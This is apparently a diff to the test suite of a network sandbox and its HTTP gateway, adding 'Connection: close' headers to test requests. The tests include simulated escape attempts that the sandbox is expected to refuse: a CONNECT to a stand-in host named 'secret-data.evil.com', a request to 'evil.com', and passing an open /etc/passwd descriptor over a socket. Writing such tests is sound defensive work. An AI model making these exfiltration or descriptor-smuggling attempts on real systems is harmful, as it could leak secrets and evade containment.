@@ -33,7 +33,7 @@ def python(t, script, *words, opts=ALLOW):
 
 def control(t):
     """The same fence, the same host, through the gateway."""
-    contains(t.works("python3", "-c", ASK, "GET http://allowed.com/x HTTP/1.1\\r\\nHost: allowed.com\\r\\n\\r\\n",
+    contains(t.works("python3", "-c", ASK, "GET http://allowed.com/x HTTP/1.1\\r\\nHost: allowed.com\\r\\nConnection: close\\r\\n\\r\\n",
                      opts=ALLOW), "/x of allowed.com", "the control")
 
 
@@ -71,7 +71,7 @@ def test_71_no_name_is_resolved_inside(t, call):
 def test_71_a_name_that_is_refused_is_not_even_asked_for(t):
     net = internet(t)
     result = python(t, ASK, "CONNECT secret-data.evil.com:443 HTTP/1.1\\r\\nHost: secret-data.evil.com:443\\r\\n\\r\\n")
-    contains(result.out, " 403 ", "the answer", result)
+    contains(result.out, " 403 ", "the answer")
     equal(net.asked, [], "what the name server was asked")
     control(t)
 
@@ -101,7 +101,7 @@ import array, os, socket
 s = socket.create_connection(("127.0.0.1", 61080), 10)
 fd = os.open("/etc/passwd", os.O_RDONLY)
 try:
-    s.sendmsg([b"GET http://allowed.com/x HTTP/1.1\\r\\nHost: allowed.com\\r\\n\\r\\n"],
+    s.sendmsg([b"GET http://allowed.com/x HTTP/1.1\\r\\nHost: allowed.com\\r\\nConnection: close\\r\\n\\r\\n"],
               [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
     print("sent")
 except OSError as error:
@@ -123,8 +123,8 @@ def test_59_the_gateway_of_another_fence_is_out_of_reach(t):
     internet(t)
     other = t.fence_start("sh", "-c", "echo up; read x", opts=("--allow", "evil.com"), stdin=-1)
     equal(other.stdout.readline(), b"up\n", "the other fence")
-    result = python(t, ASK, "GET http://evil.com/x HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n")
-    contains(result.out, " 403 ", "what the other one may reach", result)
+    result = python(t, ASK, "GET http://evil.com/x HTTP/1.1\\r\\nHost: evil.com\\r\\nConnection: close\\r\\n\\r\\n")
+    contains(result.out, " 403 ", "what the other one may reach")
     control(t)
     t.finish(other, b"\n")
 
